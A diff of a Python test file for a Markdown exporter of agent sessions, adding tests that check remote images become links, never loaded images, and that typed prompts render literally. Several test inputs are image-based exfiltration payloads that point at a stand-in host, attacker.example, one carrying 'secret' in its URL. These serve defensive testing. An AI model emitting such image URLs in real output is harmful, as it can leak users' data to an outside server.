@@ -20,17 +20,14 @@ from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
 from acp_sidecar.export.clip import COLLAPSE_LINES, HEAD_LINES, TAIL_LINES
-from acp_sidecar.export.gfm import (
+from acp_sidecar.export.gfm import details, escape_text, fence, inline_code
+from acp_sidecar.export.gfm_cards import (
     card_markdown,
-    details,
-    escape_text,
-    fence,
-    inline_code,
     message_markdown,
     plan_markdown,
-    safe_markdown,
     thought_markdown,
 )
+from acp_sidecar.export.gfm_safe import safe_markdown
 from acp_sidecar.render.fold import CardState, TerminalState, apply_tool_update
 
 GOLDEN = Path(__file__).resolve().parents[1] / "bridge" / "golden"
@@ -321,6 +318,53 @@ def test_javascript_links_are_not_links() -> None:
     assert hrefs == ["https://ok.example"]
 
 
+def _images(markdown: str) -> list[str]:
+    return [str(t.attrGet("src")) for t in _all(GITHUB.parse(markdown)) if t.type == "image"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://attacker.example/?d=secret)",
+        'see ![chart *of* it](https://attacker.example/c.png "t") here',
+        "![ref]\n\n[ref]: https://attacker.example/r.png",
+        "![alt][r]\n\n[r]: https://attacker.example/r.png",
+        "| a |\n|---|\n| ![x](https://attacker.example/t.png) |",
+        "[![badge](https://attacker.example/b.svg)](https://ok.example)",
+        "\\\\![two backslashes](https://attacker.example/b.png)",
+        "- ![in a list](https://attacker.example/l.png)\n> ![in a quote](https://attacker.example/q.png)",
+        "<b>html too</b> ![x](https://attacker.example/h.png)",
+    ],
+)
+def test_a_remote_image_in_a_message_is_a_link_never_loaded(text: str) -> None:
+    """GitHub fetches an image's source when the file is viewed (so a URL can carry data
+    out): in an export an image is a link to its source, as in the HTML page."""
+    out = safe_markdown(text)
+    assert _images(out) == []
+    hrefs = [t.attrGet("href") for t in _all(GITHUB.parse(out)) if t.type == "link_open"]
+    assert any("attacker.example" in str(h) for h in hrefs), out
+    for fragment in (
+        message_markdown("agent", [{"type": "text", "text": text}]),
+        message_markdown("user", [{"type": "text", "text": text}]),
+        thought_markdown([{"type": "text", "text": text}]),
+    ):
+        assert _images(fragment) == [], fragment
+
+
+def test_an_image_in_code_stays_code() -> None:
+    text = "`![a](https://x.example/a.png)`\n\n```\n![b](https://x.example/b.png)\n```"
+    assert safe_markdown(text) == text + "\n"
+
+
+@settings(max_examples=300)
+@given(text=MARKDOWNISH | st.text(max_size=100))
+@example(text="![a](b)")
+@example(text="\\![a](b)")
+@example(text="`` ![a](b)")
+def test_no_message_holds_an_image(text: str) -> None:
+    assert _images(safe_markdown(text)) == []
+
+
 # -- messages, thoughts, plans -----------------------------------------------------------
 
 
@@ -342,6 +386,42 @@ def test_message_joins_text_blocks_and_names_the_rest() -> None:
     assert message_markdown("user", []) == "**User**\n"
     thought = [{"type": "text", "text": "hmm"}]
     assert message_markdown("thought", thought) == thought_markdown(thought)
+
+
+def _rendered(markdown: str) -> tuple[list[str], str]:
+    """The kinds of the tokens GitHub reads in ``markdown``, and its text."""
+    tokens = list(_all(GITHUB.parse(markdown)))
+    kinds = sorted({t.type for t in tokens} - {"text", "inline", "softbreak", "hardbreak"})
+    text = "".join(
+        "\n" if t.type in ("hardbreak", "softbreak") else t.content
+        for t in tokens
+        if t.type in ("text", "hardbreak", "softbreak", "code_inline")
+    )
+    return kinds, text
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "# Add a greeting",
+        "Please add `greet` to **hello.py**: *name*, ~~no~~, [x](https://x.org) <b>",
+        "- a list\n1. numbered\n> quoted\n    indented four\n\tand a tab",
+        "===\n---\n***\n| a | b |\n|---|---|\n```\nfence\n```",
+        "ends with a backslash \\\nand &amp; an entity &#65;",
+    ],
+)
+def test_a_prompt_is_shown_as_typed_not_as_markdown(typed: str) -> None:
+    markdown = message_markdown("user", [{"type": "text", "text": typed}])
+    assert markdown.startswith("**User**\n\n")
+    kinds, text = _rendered(markdown.removeprefix("**User**\n\n"))
+    assert kinds == ["paragraph_close", "paragraph_open"], kinds
+    shown = [line.lstrip(" \t\u00a0") for line in text.split("\n")]
+    assert shown == [line.lstrip(" \t") for line in typed.split("\n") if line.strip()]
+
+
+def test_a_typed_prompt_keeps_its_indentation_and_paragraphs() -> None:
+    markdown = message_markdown("user", [{"type": "text", "text": "a\n  b\n\nc"}])
+    assert markdown == "**User**\n\na\\\n&#160;&#160;b\n\nc\n"
 
 
 def test_thought_is_a_closed_details() -> None:
@@ -569,8 +649,8 @@ def test_every_block_of_the_recorded_session_is_drawn_and_contained() -> None:
     assert any(t.type == "table_open" for t in GITHUB.parse(doc))  # the agent's own table
 
 
-def test_the_quick_control_search_finds_exactly_what_visible_replaces() -> None:
-    from acp_sidecar.export.gfm import _CONTROL, _VISIBLE
+def test_the_quick_control_search_finds_exactly_what_harmless_replaces() -> None:
+    from acp_sidecar.text import _CONTROL, _ONE_FOR_ONE
 
     found = {code for code in range(0xD800) if _CONTROL.search(chr(code))}
-    assert found == set(_VISIBLE)
+    assert found == set(_ONE_FOR_ONE)
